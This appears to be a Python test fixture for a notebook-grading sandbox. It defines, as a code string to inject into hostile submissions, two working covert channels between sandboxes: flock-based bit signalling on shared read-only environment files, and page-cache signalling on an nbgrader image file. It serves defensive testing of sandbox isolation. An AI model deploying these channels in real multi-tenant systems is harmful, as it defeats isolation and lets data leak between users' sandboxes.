"""Covert channels between sandboxes on one machine, as notebook code (tests/test_trust.py puts it into hostile
submissions). Both use kernel state that no namespace, seccomp filter or cgroup separates, on files every sandbox
of the machine reads: the Python environment, mounted read-only into each.

- FLOCK: two sandboxes running at the same time. flock() on a read-only file is visible to every process that
  opens the same file. The sender holds locks on data files for the 1-bits of a frame and toggles a clock file;
  the receiver tests each lock and acknowledges on a third file.
- PAGE_CACHE: a sandbox that ended passes bits to a later one. The sender drops a file's pages from the page
  cache (posix_fadvise DONTNEED) and reads back the pages of the 1-bits; the receiver asks for each page with
  preadv(RWF_NOWAIT), which answers only from the cache. The page cache outlives every process.
"""

# One module of code for both channels; `FILES_ROOT` is found from numpy's own location inside the sandbox.
CHANNELS = r'''
import fcntl as _fcntl, os as _os, time as _time, zlib as _zlib

def _env_files():
    import numpy
    root = _os.path.dirname(numpy.__file__)
    found = []
    for folder, subfolders, names in _os.walk(root):
        subfolders.sort()
        found += [_os.path.join(folder, n) for n in sorted(names) if n.endswith(".py")]
    return found

_FRAME_BITS = 128

class _Locks:
    def __init__(self):
        files = _env_files()[:_FRAME_BITS + 2]
        self.fds = [_os.open(path, _os.O_RDONLY) for path in files]
        self.data, self.clock, self.ack = self.fds[:_FRAME_BITS], self.fds[_FRAME_BITS], self.fds[_FRAME_BITS + 1]

    @staticmethod
    def held(fd):
        try:
            _fcntl.flock(fd, _fcntl.LOCK_SH | _fcntl.LOCK_NB)
        except OSError:
            return 1
        _fcntl.flock(fd, _fcntl.LOCK_UN)
        return 0

    @staticmethod
    def put(fd, bit):
        _fcntl.flock(fd, _fcntl.LOCK_EX if bit else _fcntl.LOCK_UN)

def flock_send(payload, seconds=25.0):
    """Send bytes to a sandbox running flock_receive at the same time; the number of frames acknowledged."""
    locks, data = _Locks(), _zlib.compress(payload)
    data = len(data).to_bytes(4, "big") + data
    frames = [data[i:i + _FRAME_BITS // 8] for i in range(0, len(data), _FRAME_BITS // 8)]
    deadline = _time.time() + seconds
    for k, frame in enumerate(frames):
        bits = int.from_bytes(frame.ljust(_FRAME_BITS // 8, b"\0"), "big")
        for i, fd in enumerate(locks.data):
            locks.put(fd, (bits >> (_FRAME_BITS - 1 - i)) & 1)
        locks.put(locks.clock, (k + 1) % 2)  # frame k is ready
        while locks.held(locks.ack) != (k + 1) % 2:  # the receiver took it
            if _time.time() > deadline:
                return k
            _time.sleep(0.0005)
    for fd in locks.fds:
        locks.put(fd, 0)
    return len(frames)

def flock_receive(seconds=25.0):
    """Bytes a sandbox sends with flock_send at the same time (b"" if none arrived in time)."""
    locks, data, k, size = _Locks(), b"", 0, None
    deadline = _time.time() + seconds
    while size is None or len(data) < size + 4:
        while locks.held(locks.clock) != (k + 1) % 2:
            if _time.time() > deadline:
                return b""
            _time.sleep(0.0005)
        bits = 0
        for fd in locks.data:
            bits = (bits << 1) | locks.held(fd)
        data += bits.to_bytes(_FRAME_BITS // 8, "big")
        locks.put(locks.ack, (k + 1) % 2)
        k += 1
        if size is None and len(data) >= 4:
            size = int.from_bytes(data[:4], "big")
    return _zlib.decompress(data[4:4 + size])  # the last acknowledgement stays, for the sender to see

_PAGE = 4096
_PREAMBLE = [1, 0, 1, 1, 0, 0, 1, 0, 1, 1, 1, 0, 0, 0, 1, 1]

def _quiet_file():
    """A big file of the environment that nothing reads while notebooks are graded (an image of nbgrader's docs)."""
    import numpy
    site = _os.path.dirname(_os.path.dirname(numpy.__file__))
    return _os.path.join(site, "nbgrader", "docs", "source", "user_guide", "images", "formgrader.gif")

def cache_send(payload):
    """Leave `payload` (at most 8 bytes) in the page cache of a quiet file, for a later sandbox."""
    bits = _PREAMBLE + [(b >> (7 - i)) & 1 for b in payload.ljust(8, b"\0")[:8] for i in range(8)]
    fd = _os.open(_quiet_file(), _os.O_RDONLY)
    _os.posix_fadvise(fd, 0, 0, _os.POSIX_FADV_DONTNEED)
    _os.posix_fadvise(fd, 0, 0, _os.POSIX_FADV_RANDOM)
    for i, bit in enumerate(bits):
        if bit:
            _os.pread(fd, 1, (2 * i + 1) * _PAGE)
    _os.close(fd)

def cache_receive():
    """The 8 bytes an earlier sandbox left with cache_send, or None (no preamble: nothing was left)."""
    fd = _os.open(_quiet_file(), _os.O_RDONLY)
    buffer, bits = bytearray(1), []
    for i in range(len(_PREAMBLE) + 64):
        try:
            _os.preadv(fd, [buffer], (2 * i + 1) * _PAGE, _os.RWF_NOWAIT)
            bits.append(1)
        except BlockingIOError:
            bits.append(0)
    _os.close(fd)
    if bits[:len(_PREAMBLE)] != _PREAMBLE:
        return None
    data = bits[len(_PREAMBLE):]
    return bytes(sum(bit << (7 - i) for i, bit in enumerate(data[k:k + 8])) for k in range(0, 64, 8))
'''
